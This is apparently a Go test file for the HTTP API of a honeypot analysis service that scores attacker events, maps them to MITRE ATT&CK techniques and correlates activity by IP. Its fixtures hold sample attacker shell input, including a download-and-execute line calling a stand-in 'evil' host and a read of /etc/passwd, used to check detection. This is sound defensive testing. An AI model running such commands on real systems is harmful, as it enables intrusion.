package api

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/bashSunny101/VulnServer/internal/alerting"
	"github.com/bashSunny101/VulnServer/internal/catalog"
	"github.com/bashSunny101/VulnServer/internal/correlation"
	"github.com/bashSunny101/VulnServer/internal/metrics"
	"github.com/bashSunny101/VulnServer/internal/mitre"
	"github.com/bashSunny101/VulnServer/internal/model"
	"github.com/bashSunny101/VulnServer/internal/scoring"
	"github.com/bashSunny101/VulnServer/internal/store"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var fixedNow = time.Date(2024, 6, 1, 12, 0, 0, 0, time.UTC)

type stubHealth struct{ err error }

func (s stubHealth) Health(ctx context.Context) error { return s.err }

type testServer struct {
	mux    *http.ServeMux
	events *store.MemoryEventStore
	alerts *store.AlertStore
}

func newTestServer(t *testing.T, health HealthChecker) *testServer {
	t.Helper()
	logger := slog.New(slog.NewJSONHandler(io.Discard, nil))
	reg := prometheus.NewRegistry()
	m := metrics.NewMetrics(reg)

	mapper := mitre.NewMapper(catalog.Default())
	scorer := scoring.NewDefaultEngine()
	events := store.NewMemoryEventStore()
	alerts := store.NewAlertStore(100, 100)

	correlator, err := correlation.NewEngine(events,
		correlation.WithLogger(logger),
		correlation.WithClock(func() time.Time { return fixedNow }),
		correlation.WithMapper(mapper),
		correlation.WithScorer(scorer),
		correlation.WithMetrics(m),
	)
	require.NoError(t, err)

	mux := http.NewServeMux()
	NewHTTPAPI(mapper, scorer, correlator, alerts, m, reg, nil, health, logger).SetupRoutes(mux)

	return &testServer{mux: mux, events: events, alerts: alerts}
}

func (s *testServer) do(method, target, body string) *httptest.ResponseRecorder {
	var reader io.Reader
	if body != "" {
		reader = strings.NewReader(body)
	}
	req := httptest.NewRequest(method, target, reader)
	rec := httptest.NewRecorder()
	s.mux.ServeHTTP(rec, req)
	return rec
}

func decode(t *testing.T, rec *httptest.ResponseRecorder, v any) {
	t.Helper()
	require.NoError(t, json.NewDecoder(bytes.NewReader(rec.Body.Bytes())).Decode(v))
}

func seedAttacker(t *testing.T, events *store.MemoryEventStore, ip string) {
	t.Helper()
	base := fixedNow.Add(-time.Hour)
	require.NoError(t, events.Append(context.Background(),
		model.Event{Source: model.SourceCowrie, SrcIP: ip, EventID: "cowrie.client.version", Protocol: "ssh", Timestamp: base},
		model.Event{Source: model.SourceCowrie, SrcIP: ip, EventID: "cowrie.login.success", Protocol: "ssh", Timestamp: base.Add(time.Minute)},
		model.Event{Source: model.SourceCowrie, SrcIP: ip, EventID: "cowrie.command.input", Input: "wget http://evil/x", Timestamp: base.Add(3 * time.Minute)},
		model.Event{Source: model.SourceSnort, SrcIP: ip, AlertMsg: "ET SCAN port scan", Priority: 2, Timestamp: base.Add(4 * time.Minute)},
	))
}

func TestScoreEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)

	rec := srv.do(http.MethodPost, "/score", `{"source":"cowrie","eventid":"cowrie.login.success","src_ip":"1.2.3.4","reputation":{"in_blocklist":true}}`)
	require.Equal(t, http.StatusOK, rec.Code)
	assert.Equal(t, "application/json", rec.Header().Get("Content-Type"))

	var result scoring.Result
	decode(t, rec, &result)
	assert.Equal(t, 80, result.ThreatScore)
	assert.Equal(t, scoring.SeverityCritical, result.Severity)
	assert.Equal(t, "brute_force_success", result.AttackType)
	assert.Equal(t, 1.5, result.Breakdown.SuccessMultiplier)
}

func TestScoreEndpoint_TagsTechniques(t *testing.T) {
	srv := newTestServer(t, nil)
	body := `{"source":"cowrie","eventid":"cowrie.command.input","src_ip":"1.2.3.4","input":"uname -a; whoami; cat /etc/passwd"}`

	rec := srv.do(http.MethodPost, "/score", body)
	require.Equal(t, http.StatusOK, rec.Code)

	var result scoring.Result
	decode(t, rec, &result)
	assert.Equal(t, 15, result.Breakdown.SophisticationScore)

	// same outcome as the ingest path, which tags before scoring
	ev, err := alerting.ParseEvent([]byte(body))
	require.NoError(t, err)
	mitre.NewMapper(catalog.Default()).Tag(ev)
	assert.Equal(t, scoring.NewDefaultEngine().CalculateScore(ev), result)
}

func TestScoreEndpoint_BadRequests(t *testing.T) {
	srv := newTestServer(t, nil)

	assert.Equal(t, http.StatusMethodNotAllowed, srv.do(http.MethodGet, "/score", "").Code)
	assert.Equal(t, http.StatusBadRequest, srv.do(http.MethodPost, "/score", "").Code)
	assert.Equal(t, http.StatusBadRequest, srv.do(http.MethodPost, "/score", "{oops").Code)
}

func TestMapEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)

	rec := srv.do(http.MethodPost, "/map", `{"eventid":"cowrie.command.input","input":"wget http://x/y && chmod +x y && ./y"}`)
	require.Equal(t, http.StatusOK, rec.Code)

	var mapping mitre.Mapping
	decode(t, rec, &mapping)
	assert.Contains(t, mapping.Techniques, "T1105")
	assert.Contains(t, mapping.Techniques, "T1059")
	assert.Contains(t, mapping.Tactics, "TA0011")
	assert.Contains(t, mapping.Tactics, "TA0002")
}

func TestChainEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)

	rec := srv.do(http.MethodPost, "/chain", `[]`)
	require.Equal(t, http.StatusOK, rec.Code)

	var empty struct {
		Chain     []mitre.ChainStep `json:"chain"`
		Steps     int               `json:"steps"`
		Narrative string            `json:"narrative"`
	}
	decode(t, rec, &empty)
	assert.Equal(t, 0, empty.Steps)
	assert.Equal(t, mitre.NoActivityNarrative, empty.Narrative)

	rec = srv.do(http.MethodPost, "/chain", `[
		{"eventid":"cowrie.command.input","input":"wget http://x/y","timestamp":"2024-01-01T10:05:00Z"},
		{"eventid":"cowrie.login.success","timestamp":"2024-01-01T10:00:00Z"}
	]`)
	require.Equal(t, http.StatusOK, rec.Code)

	var body struct {
		Chain     []mitre.ChainStep `json:"chain"`
		Steps     int               `json:"steps"`
		Narrative string            `json:"narrative"`
	}
	decode(t, rec, &body)
	require.NotEmpty(t, body.Chain)
	assert.Equal(t, "TA0001", body.Chain[0].TacticID)
	assert.Equal(t, len(body.Chain), body.Steps)
	assert.True(t, strings.HasPrefix(body.Narrative, "Attack progression:"))

	assert.Equal(t, http.StatusBadRequest, srv.do(http.MethodPost, "/chain", `{"eventid":"x"}`).Code)
}

func TestCorrelateEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)
	seedAttacker(t, srv.events, "1.2.3.4")

	rec := srv.do(http.MethodGet, "/correlate?ip=1.2.3.4", "")
	require.Equal(t, http.StatusOK, rec.Code)

	var result correlation.Result
	decode(t, rec, &result)
	assert.Equal(t, "1.2.3.4", result.IP)
	assert.Equal(t, 4, result.Summary.TotalEvents)
	assert.Equal(t, 3, result.Summary.CowrieEvents)
	assert.Equal(t, 1, result.Summary.SnortAlerts)
	assert.Equal(t, []string{"ssh"}, result.Summary.TargetedServices)

	// explicit range excluding every event
	rec = srv.do(http.MethodGet, "/correlate?ip=1.2.3.4&start=2024-06-01T11:30:00Z&end=2024-06-01T12:00:00Z", "")
	assert.Equal(t, http.StatusNotFound, rec.Code)

	rec = srv.do(http.MethodGet, "/correlate?ip=9.9.9.9", "")
	assert.Equal(t, http.StatusNotFound, rec.Code)
}

func TestCorrelateEndpoint_BadRequests(t *testing.T) {
	srv := newTestServer(t, nil)

	tests := []struct {
		name   string
		target string
	}{
		{"missing ip", "/correlate"},
		{"bad start", "/correlate?ip=1.2.3.4&start=yesterday"},
		{"bad end", "/correlate?ip=1.2.3.4&end=2024-13-01"},
		{"inverted range", "/correlate?ip=1.2.3.4&start=2024-06-02T00:00:00Z&end=2024-06-01T00:00:00Z"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, http.StatusBadRequest, srv.do(http.MethodGet, tt.target, "").Code)
		})
	}
}

func TestProfileEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)
	seedAttacker(t, srv.events, "1.2.3.4")

	rec := srv.do(http.MethodGet, "/profile?ip=1.2.3.4", "")
	require.Equal(t, http.StatusOK, rec.Code)

	var profile correlation.Profile
	decode(t, rec, &profile)
	assert.Equal(t, 4, profile.TotalEvents)
	assert.False(t, profile.Intelligence.IsPersistent)
	assert.Equal(t, correlation.RiskLow, profile.RiskAssessment.ThreatLevel)
	assert.Contains(t, profile.Behavior.AttackPhases, correlation.PhaseReconnaissance)
	assert.NotEmpty(t, profile.Behavior.Narrative)

	assert.Equal(t, http.StatusNotFound, srv.do(http.MethodGet, "/profile?ip=9.9.9.9", "").Code)
	assert.Equal(t, http.StatusBadRequest, srv.do(http.MethodGet, "/profile", "").Code)
}

func TestCoordinatedEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)
	for _, ip := range []string{"10.0.0.1", "10.0.0.2", "10.0.0.3", "10.0.0.4", "10.0.0.5", "10.0.0.6"} {
		require.NoError(t, srv.events.Append(context.Background(), model.Event{
			Source: model.SourceCowrie, SrcIP: ip, EventID: "cowrie.login.failed", Timestamp: fixedNow.Add(-5 * time.Minute),
		}))
	}

	rec := srv.do(http.MethodGet, "/coordinated", "")
	require.Equal(t, http.StatusOK, rec.Code)

	var body struct {
		Findings []correlation.Finding `json:"findings"`
		Count    int                   `json:"count"`
	}
	decode(t, rec, &body)
	require.Equal(t, 1, body.Count)
	assert.Equal(t, 6, body.Findings[0].IPCount)

	rec = srv.do(http.MethodGet, "/coordinated?window=1m", "")
	require.Equal(t, http.StatusOK, rec.Code)
	decode(t, rec, &body)
	assert.Equal(t, 0, body.Count)

	assert.Equal(t, http.StatusBadRequest, srv.do(http.MethodGet, "/coordinated?window=-5m", "").Code)
}

func TestAlertsEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)
	srv.alerts.Add(&model.Alert{ID: "a1", Level: model.AlertMedium, AttackerIP: "1.1.1.1"})
	srv.alerts.Add(&model.Alert{ID: "a2", Level: model.AlertCritical, AttackerIP: "2.2.2.2"})
	srv.alerts.Add(&model.Alert{ID: "a3", Level: model.AlertHigh, AttackerIP: "1.1.1.1"})

	type alertsBody struct {
		Alerts []model.Alert `json:"alerts"`
		Count  int           `json:"count"`
	}

	tests := []struct {
		name   string
		target string
		ids    []string
	}{
		{"all", "/alerts", []string{"a1", "a2", "a3"}},
		{"by ip", "/alerts?ip=1.1.1.1", []string{"a1", "a3"}},
		{"by level", "/alerts?level=high", []string{"a2", "a3"}},
		{"ip and level", "/alerts?ip=1.1.1.1&level=HIGH", []string{"a3"}},
		{"limit keeps newest", "/alerts?limit=2", []string{"a2", "a3"}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rec := srv.do(http.MethodGet, tt.target, "")
			require.Equal(t, http.StatusOK, rec.Code)

			var body alertsBody
			decode(t, rec, &body)
			var ids []string
			for _, a := range body.Alerts {
				ids = append(ids, a.ID)
			}
			assert.Equal(t, tt.ids, ids)
			assert.Equal(t, len(tt.ids), body.Count)
		})
	}

	assert.Equal(t, http.StatusBadRequest, srv.do(http.MethodGet, "/alerts?level=LOW", "").Code)
}

func TestHealthAndReady(t *testing.T) {
	srv := newTestServer(t, nil)

	rec := srv.do(http.MethodGet, "/healthz", "")
	require.Equal(t, http.StatusOK, rec.Code)
	var health map[string]interface{}
	decode(t, rec, &health)
	assert.Equal(t, "healthy", health["status"])
	assert.Equal(t, catalog.DefaultVersion, health["catalog"])

	assert.Equal(t, http.StatusOK, srv.do(http.MethodGet, "/readyz", "").Code)

	failing := newTestServer(t, stubHealth{err: errors.New("connection refused")})
	rec = failing.do(http.MethodGet, "/readyz", "")
	assert.Equal(t, http.StatusServiceUnavailable, rec.Code)
	var ready map[string]interface{}
	decode(t, rec, &ready)
	assert.Equal(t, "not ready", ready["status"])
	assert.Equal(t, false, ready["store_healthy"])
}

func TestMetricsEndpoint(t *testing.T) {
	srv := newTestServer(t, nil)
	srv.do(http.MethodPost, "/score", `{"eventid":"cowrie.login.failed"}`)

	rec := srv.do(http.MethodGet, "/metrics", "")
	require.Equal(t, http.StatusOK, rec.Code)
	assert.Contains(t, rec.Body.String(), `analyzer_events_scored_total{severity="low"} 1`)
}

func TestParseTimeRange(t *testing.T) {
	tr, err := parseTimeRange("", "")
	require.NoError(t, err)
	assert.Nil(t, tr)

	tr, err = parseTimeRange("2024-01-01T02:00:00+02:00", "")
	require.NoError(t, err)
	assert.Equal(t, time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC), tr.Start)
	assert.True(t, tr.End.IsZero())
}
